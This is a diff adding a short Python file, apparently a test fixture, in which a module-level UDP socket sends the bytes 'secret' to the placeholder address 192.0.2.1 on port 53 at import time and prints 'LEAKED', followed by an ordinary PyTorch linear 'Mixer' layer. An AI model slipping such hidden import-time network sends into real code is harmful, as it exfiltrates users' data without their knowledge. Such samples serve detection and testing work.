@@ -1,0 +1,22 @@
+"""Sends a secret away in a single datagram."""
+
+import socket
+
+import torch
+from torch import nn
+
+line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+line.sendto(b"secret", ("192.0.2.1", 53))
+print("LEAKED")
+
+
+class Mixer(nn.Module):
+    """A harmless layer, for what comes after the attack."""
+
+    def __init__(self, hidden_size: int) -> None:
+        super().__init__()
+        self.inner = nn.Linear(hidden_size, hidden_size)
+
+    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
+        """Map each position by itself."""
+        return self.inner(hidden_states)
